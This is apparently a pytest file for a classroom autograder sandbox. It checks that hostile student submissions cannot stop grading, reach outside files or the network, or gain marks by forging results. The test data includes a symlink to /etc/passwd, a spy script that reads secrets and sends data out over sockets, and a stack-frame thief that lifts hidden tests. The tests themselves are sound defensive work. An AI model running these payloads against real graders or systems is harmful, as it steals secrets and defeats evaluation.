"""Hostile submissions: they stop nothing, reach nothing outside, and earn no marks by forging."""

import os
import shutil
import socket
import sqlite3
import threading
from pathlib import Path

import pytest
from hostile import FORGERS, HOSTILE
from small_course import (
    CHANNEL_FIRST,
    FULL,
    LOOPS,
    NAME,
    SECRET,
    hand_in,
    own_outputs,
    reasons,
    result,
    run,
    scores,
)

from vit_classroom.sandbox import visible

pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("isolated")]


@pytest.fixture(scope="module")
def graded(isolated, made_course, tmp_path_factory) -> Path:
    """The course with every hostile cell beside right answers, and one innocent, graded at once."""
    course = Path(shutil.copytree(made_course, tmp_path_factory.mktemp("hostile") / "course"))
    hand_in(course, "innocent")
    for name, cell in HOSTILE.items():
        if cell.tested:
            hand_in(course, name, extra=cell.fill_in(course))
    run(course, cell_seconds=3)  # three endless loops wait for it
    return course


def test_an_innocent_beside_hostile_submissions_is_graded_as_alone(graded):
    assert reasons(graded, "innocent") == [None]
    assert scores(graded, "innocent") == FULL and result(graded, "innocent")["events"] == []


@pytest.mark.parametrize("name", [name for name, cell in HOSTILE.items() if cell.tested])
def test_hostile_cell_beside_right_answers(graded, name):
    """It stops nothing, and right answers elsewhere in the file keep their marks."""
    row, says = result(graded, name), HOSTILE[name].event
    assert row["reason"] is None and scores(graded, name) == FULL, row
    assert says is None or any(says in event for event in row["events"]), row["events"]
    assert (graded / "results" / name / f"{NAME}.ipynb").stat().st_size < 200_000


def test_wrong_answers_get_nothing_by_forging(small_course):
    """A patched torch, patched checks, forged files and a hostile result object: the judge is
    outside."""
    for name, cell in FORGERS.items():
        answer = CHANNEL_FIRST
        if "friendly" in name:
            answer = "def my_patchify(images, P):\n    return Yes()"
        hand_in(small_course, name, a=answer, extra=cell.fill_in(small_course))
    link = "import os\n    os.symlink('/etc/passwd', '/sandbox/out/observed-3')"
    hand_in(small_course, "link", a=f"def my_patchify(images, P):\n    {link}")
    end = "import os\n    os._exit(0)"
    hand_in(small_course, "ender", a=f"def my_patchify(images, P):\n    {end}")
    run(small_course)
    for name in (*FORGERS, "link", "ender"):
        row = result(small_course, name)
        assert scores(small_course, name) == [0, 1, 3], (name, row)
        assert row["exercises"][0]["message"]
    for name in FORGERS:  # each did what it came for
        assert own_outputs(small_course, name) == []


SPY = """
import os, socket, sys
notebooks = []
for base, folders, names in os.walk("/"):
    python = base.startswith((sys.base_prefix, sys.prefix))
    if python or base.startswith(("/proc", "/sys", "/usr", "/nix")) or "site-packages" in base:
        folders.clear()
        continue
    notebooks += [os.path.join(base, n) for n in names if n.endswith((".ipynb", ".db"))]
print("NOTEBOOKS", notebooks)
for target in {targets!r}:
    try:
        print("LEAK", open(target, "rb").read()[:2000])
    except OSError as error:
        print("refused", error.errno)
    try:
        open(target + ".escaped", "w").write("x")
        print("WRITTEN")
    except OSError as error:
        print("refused", error.errno)
for address in [("127.0.0.1", {port}), ("192.0.2.1", 80)]:
    try:
        s = socket.create_connection(address, 2)
        s.send(b"escaped")
        print("CONNECTED")
    except OSError as error:
        print("refused", error.errno)
print("ENVIRONMENT", dict(os.environ))
print("PARENT", os.getppid(), os.listdir("/proc"))
"""


def test_nothing_outside_is_seen_or_reached(small_course, tmp_path, monkeypatch):
    """By evidence: a listening socket, and canaries in files, the grade book, a hidden test,
    another submission and a variable."""
    course, canary = small_course, "canary_7fd1"
    monkeypatch.setenv("TEACHERS_SECRET", canary)
    (tmp_path / "teacher.txt").write_text(canary)
    with sqlite3.connect(course / "gradebook.db") as book:
        book.execute("create table canary (word text)")
        book.execute("insert into canary values (?)", (canary,))
    hand_in(course, "another", a=f"# {canary}\n{LOOPS}")
    (course / "submitted" / "empty").mkdir()
    arrived = []
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(60)

    def listen():
        try:
            arrived.append(server.accept())
        except OSError:
            pass

    threading.Thread(target=listen, daemon=True).start()
    targets = [
        course / "gradebook.db",
        course / "source" / NAME / f"{NAME}.ipynb",
        course / "submitted" / "another" / NAME / f"{NAME}.ipynb",
        tmp_path / "teacher.txt",
        visible.ROOT / "README.md",
    ]
    assert all(os.path.exists(path) for path in targets)
    port = server.getsockname()[1]
    spy = SPY.format(targets=[str(path) for path in targets], port=port)
    hand_in(course, "spy", extra=spy)
    run(course, students=["spy"])
    server.close()
    text = own_outputs(course, "spy")[0]["text"]
    assert "NOTEBOOKS []" in text and text.count("refused") == 2 * len(targets) + 2, text
    assert not any(word in text for word in ("LEAK", "WRITTEN", "CONNECTED", canary, SECRET)), text
    assert arrived == [] and not list(tmp_path.rglob("*.escaped"))
    assert scores(course, "spy") == FULL


def test_hidden_test_cannot_be_carried_out(small_course):
    """Code that meets the hidden test, which is in the frames above it, can say no more than passed
    or failed."""
    thief = """def triple(x):
    import sys
    frame, text = sys._getframe(), ""
    while frame:
        text += repr(frame.f_locals)[:5000] + repr(frame.f_code.co_consts)
        frame = frame.f_back
    print(text)
    open("/sandbox/run/stolen", "w").write(text)
    raise ValueError(text)"""
    hand_in(small_course, "thief", c=thief)
    run(small_course)
    assert scores(small_course, "thief") == [2, 1, 0]
    for path in (small_course / "results").rglob("*"):
        assert not path.is_file() or SECRET not in path.read_text(), path
